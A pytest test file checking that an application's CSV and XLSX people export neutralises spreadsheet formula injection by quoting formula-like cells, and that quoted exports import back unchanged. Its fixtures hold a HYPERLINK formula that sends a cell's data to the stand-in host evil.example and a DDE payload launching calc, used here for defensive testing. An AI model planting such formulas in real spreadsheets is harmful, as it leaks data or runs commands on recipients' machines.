"""The people export (CSV and XLSX, app/api/org.py) never carries a live formula: a name like
=HYPERLINK(...) is written as quoted text, and the file still imports back unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlmodel import Session

from app.core.tenancy import TenantScope
from app.org.models import User
from app.org.services import importer
from tests.factories import make_department, make_tenant

LINK = '=HYPERLINK("http://evil.example/?d="&C2,"x")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def people(session: Session) -> list[list[str]]:
    """A tenant whose people were saved with formula-like values (as older data may be)."""
    tenant = make_tenant(session)
    department = make_department(session, tenant, "@部门")
    department.path = f"/{department.id}/"
    session.add_all(
        [
            User(tenant_id=tenant.id, name=LINK, employee_no="-A1", phone="13900001111"),
            User(tenant_id=tenant.id, name="+cmd|' /C calc'!A0", email="+tag@example.com"),
            User(tenant_id=tenant.id, name="王芳", department_id=department.id),
        ]
    )
    session.flush()
    return importer.export_table(
        session=session, scope=TenantScope.single(tenant.id), tenant_id=tenant.id
    )


def test_the_csv_export_quotes_formula_text(people) -> None:
    rows = people
    data = importer.to_csv(rows, "zh-CN").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(STARTS)]
    for value in (LINK, "-A1", "+cmd|' /C calc'!A0", "+tag@example.com", "@部门"):
        assert "'" + value in cells
    assert "13900001111" in cells and "王芳" in cells  # ordinary text is as it was


def test_the_xlsx_export_has_no_formula_cells(people) -> None:
    rows = people
    sheet = load_workbook(io.BytesIO(importer.to_xlsx(rows, "en"))).active
    values = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            values.append(cell.value)
    assert sheet["B2"].value == "'" + LINK and sheet["B2"].data_type == "s"
    assert "'-A1" in values and "'@部门" in values
    assert sheet.title == "People" and sheet["A1"].value != "employee_no"  # the reader's language
    assert not [v for v in values if isinstance(v, str) and v.startswith(STARTS)]


def test_an_export_with_quoted_cells_imports_back_unchanged(people) -> None:
    rows = people
    for name, data in (
        ("people.csv", importer.to_csv(rows, "zh-CN")),
        ("people.xlsx", importer.to_xlsx(rows, "zh-CN")),
    ):
        again = importer.read_table(name, data)
        assert [cells["name"] for _, cells in again] == [row[1] for row in rows]
        assert again[0][1]["employee_no"] == "-A1"
        assert again[2][1]["department"] == "@部门"
